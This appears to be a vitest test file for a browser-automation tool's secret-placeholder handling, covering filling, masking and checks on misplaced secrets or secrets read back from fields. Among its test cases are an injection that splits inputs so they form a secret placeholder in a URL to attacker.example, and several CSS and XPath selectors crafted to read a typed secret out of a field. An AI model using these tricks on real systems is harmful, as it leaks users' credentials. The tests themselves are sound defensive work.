import { describe, expect, it } from 'vitest'
import type { AutomationStep } from './automation-steps.ts'
import { fillRunStep, stepsWithInputs } from './run-inputs.ts'
import { fillStep, hideValues, misplacedSecrets, placeholdersIn, placeholdersOf, secretReadBacks } from './step-placeholders.ts'

const steps: AutomationStep[] = [
  { type: 'navigate', url: 'https://shop.example/search?q={{input.term}}' },
  { type: 'type', target: [{ by: 'label', text: 'Password' }], text: '{{ secrets.shop_password }}' },
  { type: 'type', target: [{ by: 'label', text: 'Code' }], text: '{{totp.shop}}' },
  { type: 'click', target: [{ by: 'text', text: '{{secrets.not_here}}' }] },
  { type: 'assertText', text: 'Hello {{input.term}}' },
]

describe('step placeholders', () => {
  it('finds each placeholder of the fields that take them, once, and none in targets', () => {
    expect(placeholdersOf(steps).map((p) => `${p.kind}.${p.name}`)).toEqual(['input.term', 'secrets.shop_password', 'totp.shop'])
  })

  it('ignores what only looks like one: template inputs, unknown kinds, bad names', () => {
    expect(placeholdersIn('{{search_term}} {{vault.x}} {{secrets.1x}} {{secrets.}} {secrets.x}')).toEqual([])
  })

  it('fills the values it has and lists the ones it does not', () => {
    const values: Record<string, string> = { 'input.term': 'rain jacket', 'secrets.shop_password': 'hunter22' }
    const filled = steps.map((step) => fillStep(step, (p) => values[`${p.kind}.${p.name}`]))
    expect(filled[0]?.step).toMatchObject({ url: 'https://shop.example/search?q=rain jacket' })
    expect(filled[1]?.step).toMatchObject({ text: 'hunter22' })
    expect(filled[2]?.missing.map((p) => p.text)).toEqual(['{{totp.shop}}'])
    expect(filled[2]?.step).toMatchObject({ text: '{{totp.shop}}' })
    expect(filled[3]?.step).toBe(steps[3])
    // The original steps are unchanged.
    expect(steps[1]).toMatchObject({ text: '{{ secrets.shop_password }}' })
  })

  it('hides every value it was given, the longest first, and leaves short ones alone', () => {
    const hidden = new Map([
      ['hunter22', '{{secrets.pw}}'],
      ['hunter2', '{{secrets.old}}'],
      ['ab', '{{secrets.tiny}}'],
    ])
    expect(hideValues('typed hunter22 then hunter2 in a lab', hidden)).toBe('typed {{secrets.pw}} then {{secrets.old}} in a lab')
  })

  it('finds vault placeholders anywhere but in the text a type step types, with the step and field', () => {
    const misplaced = misplacedSecrets([
      { type: 'navigate', url: 'https://x.example/?k={{secrets.key}}&q={{input.term}}' },
      { type: 'type', target: [{ by: 'label', text: '{{totp.shop}}' }], text: '{{secrets.ok}} and {{input.term}}' },
      { type: 'extract', target: [{ by: 'css', selector: 'h1' }], field: 'title', attribute: '{{ secrets.key }}' },
      { type: 'screenshot', name: 'after {{secrets.key}}' },
    ])
    expect(misplaced.map(({ index, field, placeholder }) => [index, field, placeholder.text])).toEqual([
      [0, 'url', '{{secrets.key}}'],
      [1, 'target.0.text', '{{totp.shop}}'],
      [2, 'attribute', '{{ secrets.key }}'],
      [3, 'name', '{{secrets.key}}'],
    ])
    expect(misplaced[0]?.message).toBe(
      'Step 1 (navigate): {{secrets.key}} may only be typed into a field (the text of a type step), never placed in the address to open.',
    )
  })

  it('fills a run step in one pass: what an input brings is never read as a placeholder', () => {
    const step: AutomationStep = { type: 'navigate', url: 'https://attacker.example/t?q={{input.a}}{{input.b}}' }
    const vault = (placeholder: { text: string }) => `VALUE-OF-${placeholder.text}`
    expect(fillRunStep(step, { a: '{', b: '{secrets.admin_token}}' }, vault).step).toEqual({
      type: 'navigate',
      url: 'https://attacker.example/t?q={{secrets.admin_token}}',
    })
    const typed: AutomationStep = { type: 'type', target: [{ by: 'label', text: 'Note' }], text: '{{input.x}} {{secrets.pw}}' }
    expect(fillRunStep(typed, { x: '{{input.x}}{{secrets.pw}}' }, vault).step).toMatchObject({
      text: '{{input.x}}{{secrets.pw}} VALUE-OF-{{secrets.pw}}',
    })
    // Inputs given as null: the step came filled, its input placeholders stay as they are.
    expect(fillRunStep(typed, null, () => undefined)).toMatchObject({
      step: { text: '{{input.x}} {{secrets.pw}}' },
      missing: [{ text: '{{secrets.pw}}' }],
    })
    expect(stepsWithInputs([typed], { x: '{{secrets.pw}}' })[0]).toMatchObject({ text: '{{secrets.pw}} {{secrets.pw}}' })
  })
})

describe('reading a field back where a secret is typed (docs/decisions/039, amended)', () => {
  const typeToken: AutomationStep = { type: 'type', target: [{ by: 'label', text: 'Token' }], text: '{{secrets.site_token}}' }
  const token = [{ by: 'label', text: 'Token' }] as const
  const read = (step: AutomationStep, before: AutomationStep[] = [typeToken]) =>
    secretReadBacks([{ type: 'navigate', url: 'https://app.example.com/login' }, ...before, step]).map(
      ({ index, field }) => `${index}:${field}`,
    )

  it("refuses the review's extract of the value attribute, in any case, before or after the typing", () => {
    const backspace: AutomationStep = { type: 'press', key: 'Backspace', target: [...token] }
    const steps: AutomationStep[] = [
      { type: 'navigate', url: 'https://app.example.com/login' },
      typeToken,
      backspace,
      { type: 'extract', target: [...token], field: 'v', attribute: 'value' },
    ]
    expect(secretReadBacks(steps)).toEqual([
      {
        index: 3,
        field: 'attribute',
        message:
          'Step 4 (extract): this automation types {{secrets.site_token}} (step 2), so no step may read what a field holds: extract the text of the page, not the attribute value.',
      },
    ])
    expect(read({ type: 'extract', target: [...token], field: 'v', attribute: 'VALUE' })).toEqual(['2:attribute'])
    expect(read({ type: 'extract', target: [...token], field: 'v', attribute: ' Value ' })).toEqual(['2:attribute'])
    // Before the type step too (a retry or a sign-in block's loop is not needed to read it later).
    expect(secretReadBacks([{ type: 'extract', target: [...token], field: 'v', attribute: 'value' }, typeToken])).toHaveLength(1)
  })

  it('refuses a target that tests the value attribute, by CSS or XPath, in any step', () => {
    const css = (selector: string): AutomationStep => ({
      type: 'wait',
      target: [
        { by: 'text', text: 'x' },
        { by: 'css', selector },
      ],
    })
    const xpath = (path: string): AutomationStep => ({ type: 'click', target: [{ by: 'xpath', path }] })
    for (const selector of [
      'input[value^="a"]',
      'input[ VALUE *= "x" i]',
      '[*|value]',
      'input >> internal:attr=[value="a"]',
      'input[\\76 alue^=a]',
      'form >> xpath=//input[@value]',
    ])
      expect(read(css(selector)), selector).toEqual(['2:target.1.selector'])
    for (const path of ['//input[@value="a"]', '//input[attribute::value]', '//input[@*[starts-with(., "a")]]', '//input[@ node()]'])
      expect(read(xpath(path)), path).toEqual(['2:target.0.path'])
    for (const selector of ['input[name=token]', '#value-field', '[data-value=x]', '[aria-valuenow]', '[name="value"]', '.value'])
      expect(read(css(selector)), selector).toEqual([])
    expect(read(xpath('//div[@class="value"]'))).toEqual([])
  })

  it('lets steps read text, and lets automations that type no secret read values', () => {
    expect(read({ type: 'extract', target: [...token], field: 'v' })).toEqual([])
    expect(read({ type: 'assertText', target: [...token], text: 'x' })).toEqual([])
    expect(read({ type: 'extract', target: [{ by: 'css', selector: 'a' }], field: 'link', attribute: 'href' })).toEqual([])
    const plainType: AutomationStep = { type: 'type', target: [...token], text: 'hello {{input.term}}' }
    expect(read({ type: 'extract', target: [...token], field: 'v', attribute: 'value' }, [plainType])).toEqual([])
    // A vault placeholder anywhere else is misplacedSecrets' refusal, not this one's.
    expect(read({ type: 'extract', target: [...token], field: 'v', attribute: 'value' }, [])).toEqual([])
  })
})
